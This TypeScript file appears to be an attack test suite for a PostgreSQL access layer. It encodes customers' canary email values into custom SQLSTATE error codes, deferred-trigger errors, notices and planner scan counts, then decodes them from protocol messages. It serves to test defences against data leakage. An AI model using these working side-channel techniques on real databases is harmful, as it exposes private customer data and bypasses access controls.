/** An error says five characters by its SQLSTATE alone, and may come where no statement runs: at Bind, which plans, and at the end of a transaction. */

import { attackSuite, type Attacker, type Technique } from '../../support/attack.ts';
import { rowsOf, wire, type WireClient } from '../../support/wire-client.ts';

const CODE = (mail: string, part: string): string => `upper(substr(right(${mail}, 8), ${part}, 5))`;
const FAIL = (mail: string, part: string): string => `RAISE EXCEPTION USING ERRCODE = ${CODE(mail, part)}, MESSAGE = 'no'`;
const MAIL = '(SELECT email FROM crm.customers WHERE id = n)';

export const errorCodes = attackSuite('error-codes', {
  sql: `
    CREATE FUNCTION public.fails(n int, part int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN ${FAIL(MAIL, 'part')}; END $$;
    CREATE FUNCTION public.fails_set() RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ DECLARE n int := current_setting('app.n'); part int := current_setting('app.part'); BEGIN ${FAIL(MAIL, 'part')}; END $$;
    CREATE OPERATOR public.!+! (FUNCTION = public.fails, LEFTARG = int, RIGHTARG = int);
    CREATE FUNCTION public.fails_on(id int, n int, mail text, part int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN IF id = n THEN ${FAIL('mail', 'part')}; END IF; RETURN true; END $$;
    CREATE FUNCTION public.fail_late() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE n int := NEW.n; BEGIN ${FAIL(MAIL, 'NEW.part')}; END $$;
    CREATE TABLE public.put_off (n int, part int);
    CREATE CONSTRAINT TRIGGER late AFTER INSERT ON public.put_off DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.fail_late();
    CREATE FUNCTION public.tell_late() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE '%', (SELECT string_agg(email, ' ') FROM crm.customers WHERE id > NEW.n AND id <= NEW.n + 75); RAISE EXCEPTION '%', (SELECT string_agg(email, ' ') FROM crm.customers WHERE id > NEW.n + 75 AND id <= NEW.n + 150); END $$;
    CREATE TABLE public.told_late (n int);
    CREATE CONSTRAINT TRIGGER late AFTER INSERT ON public.told_late DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.tell_late();
    GRANT ALL ON public.put_off, public.told_late TO staff;
  `,
});
const { attack, group } = errorCodes;

/** Where an error's five characters begin in a hash of eight. */
const PARTS = [1, 4] as const;

/** Asks for both halves of each customer's hash, and puts the codes of the errors together. */
async function spelled(attacker: Attacker, client: WireClient, ids: Iterable<number>, ask: (id: number, part: number) => Promise<unknown>): Promise<void> {
  for (const id of ids) {
    const halves: string[] = [];
    for (const part of PARTS) {
      const from = client.messages.length;
      await ask(id, part);
      const error = client.messages.slice(from).find(({ type }) => type === 'E')?.body.toString('latin1');
      halves.push(/\0C(\w{5})\0/.exec(error ?? '')?.[1]?.toLowerCase() ?? '-----');
    }
    attacker.decoded += `cnry-${String(id).padStart(6, '0')}-${halves[0] as string}${(halves[1] as string).slice(2)} `;
  }
}

const every = (first: number, step: number, last: number): readonly number[] => Array.from({ length: Math.floor((last - first) / step) + 1 }, (_, i) => first + i * step);

const atBind = (ask: (id: number, part: number) => string): Technique => async (attacker) => {
  const client = await attacker.connect();
  await spelled(attacker, client, every(1, 1, attacker.customers), (id, part) => client.ask([wire.parse('', ask(id, part)), wire.bind('', ''), wire.sync]));
};

/** The same where the function is told by settings whom it is about. `make`: what the session needs; `later`: what comes between Parse and Bind. */
const atBindOf = (ask: string, make: string, later?: string): Technique => async (attacker) => {
  const client = await attacker.connect();
  await client.query(make);
  await client.ask([wire.parse('asked', ask), wire.sync]);
  if (later !== undefined) await client.query(later);
  await spelled(attacker, client, every(1, 1, attacker.customers), async (id, part) => {
    await client.query(`SET app.n = ${id}; SET app.part = ${part}`);
    return client.ask([wire.bind('', 'asked'), wire.sync]);
  });
};

/** Two statements give two customers, and a third by their errors. */
const behindARow = (ask: (client: WireClient, sql: string) => Promise<unknown>): Technique => async (attacker) => {
  const client = await attacker.connect();
  await spelled(attacker, client, every(3, 3, 1.5 * attacker.customers), (id, part) => ask(client, `SELECT email FROM crm.customers WHERE id IN (${id - (part === 1 ? 1 : 2)}, ${id}) AND fails_on(id, ${id}, email, ${part})`));
};

const atTheEnd = (last: readonly Buffer[]): Technique => async (attacker) => {
  const client = await attacker.connect();
  await spelled(attacker, client, every(3, 3, 1.5 * attacker.customers), async (id, part) => {
    if (last.length > 1) await client.query('BEGIN');
    await client.ask([wire.run(`INSERT INTO put_off VALUES (${id}, ${part}) RETURNING (SELECT email FROM crm.customers WHERE id = ${id - (part === 1 ? 1 : 2)})`), wire.sync]);
    if (last.length > 1) await client.ask(last);
  });
};

/** Of several statements of one text the last one is the transaction's end. */
const inOneText = (last: string): Technique => async (attacker) => {
  const client = await attacker.connect();
  for (let n = 0; n < 600; n += 150) await client.query(`INSERT INTO told_late VALUES (${n}); ${last}`);
};

/** What planning scanned is counted: a digit of a customer for each of four tables, and nothing was executed. */
const countedAtBind: Technique = async (attacker) => {
  const { own } = attacker;
  const client = await attacker.connect();
  const digits = [0, 1, 2, 3];
  await client.query(digits.map((i) => `CREATE TABLE public.${own}_${i} ()`).join(';'));
  const scan = (i: number): string => `PERFORM count((SELECT count(*) FROM public.${own}_${i} WHERE g > 0)) FROM crm.customers c, generate_series(1, ('x' || substr(right(c.email, 8), 1 + 2 * ${i}, 2))::bit(8)::int) g WHERE c.id = n;`;
  await client.query(`CREATE FUNCTION pg_temp.f(n int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN ${digits.map(scan).join(' ')} RETURN 1; END $$`);
  const look = async (): Promise<readonly number[]> => {
    await client.query('SELECT pg_stat_force_next_flush()');
    const scans = new Map(rowsOf(await client.query(`SELECT relname, seq_scan FROM pg_stat_user_tables WHERE relname LIKE '${own}\\_%'`)).map(([name, scanned]) => [String(name), Number(String(scanned))]));
    return digits.map((i) => scans.get(`${own}_${i}`) ?? 0);
  };
  let before = await look();
  for (let id = 1; id <= attacker.customers; id++) {
    await client.ask([wire.parse('', `SELECT pg_temp.f(${id})`), wire.bind('', ''), wire.sync]);
    const after = await look();
    attacker.decoded += `cnry-${String(id).padStart(6, '0')}-${after.map((scans, i) => (scans - (before[i] ?? 0)).toString(16).padStart(2, '0')).join('')} `;
    before = after;
  }
};

for (const role of ['agent', 'lax'] as const) {
  group(`SQLSTATEs, ${role}`, 'errors', () => {
    attack('an error of Bind', atBind((id, part) => `SELECT fails(${id}, ${part})`), role);
    attack('an error behind a row, Query', behindARow((client, sql) => client.query(sql)), role);
    attack('an error behind a row, Execute', behindARow((client, sql) => client.ask([wire.run(sql), wire.sync])), role);
    attack('an error behind a row, COPY', behindARow((client, sql) => client.query(`COPY (${sql}) TO STDOUT`)), role);
    attack('an error of Sync behind a row', atTheEnd([]), role);
    attack('an error of COMMIT behind a row', atTheEnd([wire.query('COMMIT'), wire.query('SELECT 1')]), role);
  });
}
group('SQLSTATEs of what planning works out', 'errors', () => {
  attack('an operator', atBind((id, part) => `SELECT ${id} !+! ${part}`), 'lax');
  attack('a view', atBindOf('SELECT * FROM pg_temp.seen', 'CREATE TEMP VIEW seen AS SELECT fails_set()'), 'lax');
  attack('a default', atBindOf('INSERT INTO pg_temp.kept DEFAULT VALUES', 'CREATE TEMP TABLE kept (a int DEFAULT fails_set())'), 'lax');
  attack('a policy', atBindOf('SELECT * FROM pg_temp.hidden', 'CREATE TEMP TABLE hidden (a int); ALTER TABLE hidden ENABLE ROW LEVEL SECURITY; ALTER TABLE hidden FORCE ROW LEVEL SECURITY; CREATE POLICY p ON hidden USING (fails_set() > 0)'), 'lax');
  attack('a function that is replaced after Parse', atBindOf('SELECT pg_temp.later()', "CREATE FUNCTION pg_temp.later() RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT 1'", "CREATE OR REPLACE FUNCTION pg_temp.later() RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT fails_set()'"), 'lax');
});
group('the end of a text', 'errors', () => {
  for (const last of ['SELECT 1', 'SHOW search_path', 'BEGIN; COMMIT', 'SELECT 1; SELECT 2', 'SET CONSTRAINTS ALL IMMEDIATE', 'TABLE public.tariffs']) attack(`behind an INSERT: ${last}`, inOneText(last), 'lax');
});
group('planning alone', 'side doors', () => {
  attack('what a few tables count at Bind', countedAtBind, 'lax');
});

